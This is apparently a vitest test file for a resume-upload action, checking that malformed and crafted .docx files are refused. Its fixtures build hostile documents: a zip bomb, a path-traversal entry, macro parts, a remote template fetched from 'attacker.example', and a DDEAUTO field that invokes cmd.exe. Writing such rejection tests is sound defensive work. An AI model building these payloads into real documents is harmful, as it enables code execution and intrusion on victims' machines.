import { strToU8 } from "fflate";
import { describe, expect, it } from "vitest";
import {
  callAction,
  makeContext,
  unwrap,
  type FormActionBody,
} from "../../../../tests/support/context";
import { testEngines } from "../../../../tests/support/databases";
import {
  contentTypesXml,
  docxFiles,
  documentXml,
  minimalDocx,
  relsXml,
  zipOf,
} from "../../../../tests/support/docx-fixtures";
import { MB, useResumeReview } from "../../../../tests/support/resume-review";
import { action } from "./resume-review";

describe.each(testEngines())("resume review on $name", (engine) => {
  const { t, submit, expectNothingStored } = useResumeReview(engine);

  it("refuses a missing file", async () => {
    const { status, body } = await submit(undefined);
    expect(status).toBe(400);
    expect(body.toast).toMatchObject({ title: "Error", description: "Please upload your resume" });
    expect(body.result?.error?.resume).toEqual(["Please upload your resume"]);
    await expectNothingStored();
  });

  it.each(["resume.pdf", "resume.doc", "resume.docx.exe", "resume"])(
    "refuses the file name %j",
    async (name) => {
      const { status, body } = await submit({ bytes: minimalDocx(), name });
      expect(status).toBe(400);
      expect(body.toast).toMatchObject({
        title: "Invalid File Type",
        description: "Please upload a .docx file",
      });
      await expectNothingStored();
    },
  );

  const withoutContentTypes = () => {
    const files = docxFiles();
    delete files["[Content_Types].xml"];
    return zipOf(files);
  };
  // Not a Word document at all: its own message, which says how to make one.
  const unreadable: [string, () => Uint8Array][] = [
    ["a renamed text file", () => strToU8("Grace Hopper\nRear admiral\n")],
    ["a cut-off file", () => minimalDocx().subarray(0, 100)],
    ["a zip without content types", withoutContentTypes],
    [
      "a spreadsheet renamed .docx",
      () =>
        zipOf({
          ...docxFiles(),
          "[Content_Types].xml": contentTypesXml(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
          ),
        }),
    ],
  ];

  it.each(unreadable)("refuses %s named .docx as unreadable", async (_, make) => {
    const { status, body } = await submit({ bytes: make(), name: "resume.docx" });
    expect(status).toBe(400);
    const description =
      "This file isn't a Word document we can open. In Word or Google Docs, save or download your resume as a .docx file, then upload that copy.";
    expect(body.toast).toMatchObject({ title: "Unreadable File", description, durationMs: 7000 });
    expect(body.result?.error?.resume).toEqual([description]);
    await expectNothingStored();
  });

  // A Word document refused for what it holds: the spec's message (decision 0020).
  const crafted: [string, () => Uint8Array][] = [
    [
      "a zip bomb",
      () =>
        zipOf({ ...docxFiles(), "word/media/zeros.bin": new Uint8Array(30 * MB) }, { level: 9 }),
    ],
    ["a path traversal entry", () => zipOf({ ...docxFiles(), "../../evil.txt": "x" })],
    [
      "a macro part",
      () => zipOf({ ...docxFiles(), "word/vbaProject.bin": new Uint8Array([1, 2, 3]) }),
    ],
    [
      "a macro-enabled document",
      () =>
        zipOf({
          ...docxFiles(),
          "[Content_Types].xml": contentTypesXml(
            "application/vnd.ms-word.document.macroEnabled.main+xml",
          ),
        }),
    ],
    [
      "a remote attached template",
      () =>
        zipOf({
          ...docxFiles(),
          "word/_rels/settings.xml.rels": relsXml([
            {
              id: "rId1",
              type: "attachedTemplate",
              target: "https://attacker.example/cv.dotm",
              external: true,
            },
          ]),
        }),
    ],
    [
      "a DDE field",
      () =>
        zipOf({
          ...docxFiles(),
          "word/document.xml": documentXml(
            `<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"/></w:p>`,
          ),
        }),
    ],
  ];

  it.each(crafted)("refuses %s named .docx by its content", async (_, make) => {
    const { status, body } = await submit({ bytes: make(), name: "resume.docx" });
    expect(status).toBe(400);
    expect(body.toast).toMatchObject({
      title: "Invalid File Type",
      description: "Please upload a .docx file",
      durationMs: 7000,
    });
    expect(body.result?.error?.resume).toEqual(["Please upload a .docx file"]);
    await expectNothingStored();
  });

  it("refuses a file over 5 MB with a message about the limit", async () => {
    const files = { ...docxFiles(), "word/media/noise.bin": new Uint8Array(5 * MB) };
    const { status, body } = await submit({ bytes: zipOf(files, { level: 0 }), name: "cv.docx" });
    expect(status).toBe(400);
    expect(body.toast?.title).toBe("File Too Large");
    expect(body.toast?.description).toContain("5 MB");
    await expectNothingStored();
  });

  it("answers a body that is not valid multipart with the generic error", async () => {
    const request = new Request("http://localhost:3000/resume-review", {
      method: "POST",
      headers: { "Content-Type": "multipart/form-data; boundary=xyz" },
      body: '--xyz\r\nContent-Disposition: form-data; name="resume"; filename="a.docx"\r\n\r\ncut',
    });
    const response = await unwrap(
      await callAction(action, request, makeContext(t.services, { ip: "10.3.0.1" })),
    );
    expect(response.status).toBe(400);
    expect((response.body as FormActionBody).toast?.description).toBe(
      "There was a problem processing your request. Please try again or contact support.",
    );
    await expectNothingStored();
  });
});
